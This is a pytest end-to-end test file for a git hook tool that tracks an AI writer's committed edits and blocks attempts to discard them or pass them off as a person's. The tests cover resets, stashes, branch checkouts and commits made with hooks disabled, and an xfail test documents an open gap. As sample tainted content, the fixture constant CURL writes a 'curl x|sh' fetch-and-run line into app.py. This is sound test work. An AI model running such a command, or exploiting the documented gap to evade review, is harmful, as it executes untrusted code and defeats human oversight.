"""A discard of writer work a commit took, after that commit left the branch (SPEC §3
"Attribution follows content", "Pending work ends cleanly", §6 ``discard``): real git,
``gentle-hook install --share``, a bare remote with the server gate.

The writer's edit of ``app.py`` recorded, self-verified, spot-checked and committed (the
post-commit hook takes the entry), then the commit dropped from the branch while its
content stays (``git reset --soft|--mixed HEAD~1``), or another branch checked out with
the file taken from ``main``: the work tree or the index holds the writer's content byte
for byte, so a ``discard`` is refused as for open work ("still holds the writer's
change", exit 2), the entry stays taken, and a commit holding that content is blocked at
the commit gate, and, made with hooks off, at the push gate and the server (issue 13,
refuter r13t). A commit made with hooks off after the reset holds it: the discard names
that commit. An edit after ``reset --soft`` (the index still holds the commit's content)
or a stash round trip (it held the content) throws nothing away: still refused. Open: an
edit after ``reset --mixed`` looks like the writer's patch applied again after ``reset
--hard``, which a discard claims (the xfail row).

A person's own cases stay theirs: the commit thrown away (``git reset --hard HEAD~1``) and
discarded, the take-out the refusal prints run as printed, a revert by hand, or a
person's own version of the file on another branch: the discard is accepted and the
person's commit passes with no writer trailer. On another branch the take-out run, the
discard is refused still (``main``'s writer commit keeps the content:
tests/e2e/test_discard_held_by_commit.py), and the person's commit passes without one.
"""

from __future__ import annotations

import pytest

from tests.e2e.conftest import World, blocked_at_push

BASE = "def add(a, b):\n    return a - b\n"
WRITER = "def add(a, b):\n    return a + b\n"
CURL = 'import os\nos.system("curl x|sh")\n'
CHECK = ["python3", "-c", "import app; assert app.add(2, 3) == 5"]
REFUSED = (
    "gentle-hook: error: app.py: still holds the writer's change; a discard would not make "
    "it yours (the commit and push gates judge a change holding it the writer's): verify it "
    "as the gate's block says (a change a re-run refuted is changed, or let through with the "
    "recorded GENTLE_HOOKS_SKIP line the block prints), or take it out with "
    "`git restore --source=HEAD --staged --worktree -- ':(top,literal)app.py'` (it drops "
    "every uncommitted change of them) and discard then\n"
)


@pytest.fixture
def committed(native: World) -> World:
    """``app.py`` holds :data:`BASE`, pushed; the writer's :data:`WRITER` recorded,
    self-verified, spot-checked and committed as ``agent`` (not pushed)."""
    w = native.serve({"app.py": BASE})
    w.write("app.py", WRITER)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
    ran = w.gh("receipt", "run", "--", *CHECK)
    assert ran.code == 0, ran
    w.spot_check()
    w.ok("commit", "-qam", "agent")
    assert w.ledger("SELECT state FROM writer_entry") == [("taken",)]
    return w


def _refused(w: World) -> None:
    """``discard --all`` is refused with :data:`REFUSED`; the entry stays taken."""
    r = w.gh("discard", "--all", "--reason", "mine")
    assert (r.code, r.out, r.err) == (2, "", REFUSED), r
    assert w.ledger("SELECT state FROM writer_entry") == [("taken",)]
    assert w.ledger("SELECT COUNT(*) FROM discard") == [(0,)]


@pytest.mark.parametrize("mode", ["--soft", "--mixed"])
def test_the_writers_commit_reset_away_keeps_its_content_the_writers(
    committed: World, mode: str
) -> None:
    w = committed
    w.ok("reset", "-q", mode, "HEAD~1")
    _refused(w)
    w.write("app.py", WRITER + CURL)
    blocked = w.git("commit", "-qam", "refactor")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    assert not any("  human: " in s for s in blocked.said), blocked


def test_an_edit_after_a_soft_reset_does_not_open_the_way(committed: World) -> None:
    """The file written after ``reset --soft`` (the writer's content kept, a line added):
    the index still holds the commit's content, so the reset threw nothing away and the
    discard is still refused."""
    w = committed
    w.ok("reset", "-q", "--soft", "HEAD~1")
    with (w.work / "app.py").open("a", encoding="utf-8") as f:
        f.write(CURL)
    _refused(w)


def test_a_stash_round_trip_after_the_reset_throws_nothing_away(committed: World) -> None:
    """``git stash`` logs the reset a ``reset --hard`` logs and writes the file again when
    popped: the content it held never was nowhere, so the discard is still refused."""
    w = committed
    w.ok("reset", "-q", "HEAD~1")
    w.ok("stash", "-q")
    w.ok("stash", "pop", "-q")
    _refused(w)


@pytest.mark.xfail(
    strict=True,
    reason="open (issue 13): after `git reset --mixed HEAD~1` an edit of the file kept is "
    "told by nothing git keeps from `git reset --hard HEAD~1` then the writer's patch "
    "applied again by a person (both: a reset since the take, the file written since, the "
    "index at HEAD), which a discard claims (tests/e2e/test_discard_retyped.py); the "
    "claim is recorded, an override line in the note of a commit holding it",
)
def test_an_edit_after_a_mixed_reset_is_refused(committed: World) -> None:
    w = committed
    w.ok("reset", "-q", "HEAD~1")
    with (w.work / "app.py").open("a", encoding="utf-8") as f:
        f.write(CURL)
    _refused(w)


def test_another_branch_holding_the_writers_file_keeps_it_the_writers(committed: World) -> None:
    w = committed
    w.ok("checkout", "-q", "-b", "side", "HEAD~1")
    w.ok("checkout", "-q", "main", "--", "app.py")
    _refused(w)
    w.write("app.py", WRITER + CURL)
    blocked = w.git("commit", "-qam", "refactor on side")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked


def test_a_commit_with_hooks_off_after_the_reset_is_named_and_blocked(committed: World) -> None:
    w = committed
    w.ok("reset", "-q", "--soft", "HEAD~1")
    w.write("app.py", WRITER + CURL)
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "refactor")
    head = w.rev("HEAD")
    r = w.gh("discard", "--all", "--reason", "mine")
    assert r.code == 2 and r.out == "", r
    assert r.err.startswith(
        f"gentle-hook: error: app.py: the writer's change is in commit {head[:12]} on this "
        "branch, not pushed; a discard would not make it yours"
    ), r
    assert w.ledger("SELECT state FROM writer_entry") == [("taken",)]
    blocked_at_push(w)


# -- a person's own cases ----------------------------------------------------------------


def _human_commit_passes(w: World, text: str) -> None:
    """A person's ``text`` in ``app.py`` committed: it passes with no writer trailer, and
    the push passes both gates."""
    w.write("app.py", text)
    passed = w.git("commit", "-qam", "human")
    assert passed.code == 0, passed
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
    pushed = w.git("push", "origin", "HEAD")
    assert pushed.code == 0, pushed


def test_the_writers_commit_thrown_away_is_discarded(committed: World) -> None:
    w = committed
    w.ok("reset", "-q", "--hard", "HEAD~1")
    done = w.gh("discard", "--all", "--reason", "thrown away")
    assert done.code == 0 and done.out.startswith("discarded: 1 pending writer entry"), done
    assert done.err == "", done
    _human_commit_passes(w, BASE + "\n\ndef sub(a, b):\n    return a - b\n")


@pytest.mark.parametrize("where", ["reset", "side"])
def test_the_printed_take_out_lets_the_discard_through(committed: World, where: str) -> None:
    w = committed
    if where == "reset":
        w.ok("reset", "-q", "HEAD~1")
    else:
        w.ok("checkout", "-q", "-b", "side", "HEAD~1")
        w.ok("checkout", "-q", "main", "--", "app.py")
    refused = w.gh("discard", "--all", "--reason", "mine")
    take_out = refused.err.split("take it out with `", 1)[1].split("`", 1)[0]
    assert w.run(["sh", "-c", take_out]).code == 0
    done = w.gh("discard", "--all", "--reason", "mine")
    if where == "reset":
        assert done.code == 0 and done.out.startswith("discarded: 1 pending writer entry"), done
    else:  # main's writer commit keeps the content: not the person's to discard from here
        assert done.code == 2 and f" in commit {w.rev('main')[:12]} on main, " in done.err, done
    _human_commit_passes(w, BASE + "\n\ndef sub(a, b):\n    return a - b\n")


def test_a_revert_by_hand_after_the_reset_is_discarded(committed: World) -> None:
    w = committed
    w.ok("reset", "-q", "HEAD~1")
    w.write("app.py", BASE)  # the person reverts the writer's edit by hand
    done = w.gh("discard", "--all", "--reason", "reverted")
    assert done.code == 0 and done.out.startswith("discarded: 1 pending writer entry"), done
    _human_commit_passes(w, BASE + "\n\ndef sub(a, b):\n    return a - b\n")


def test_a_persons_own_version_on_another_branch_is_discarded(committed: World) -> None:
    w = committed
    w.ok("checkout", "-q", "-b", "side", "HEAD~1")
    mine = "def add(a, b):\n    total = a\n    total -= -b\n    return total\n"
    w.write("app.py", mine)
    done = w.gh("discard", "--all", "--reason", "my own fix")
    assert done.code == 0 and done.out.startswith("discarded: 1 pending writer entry"), done
    passed = w.git("commit", "-qam", "human: own fix")
    assert passed.code == 0, passed
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
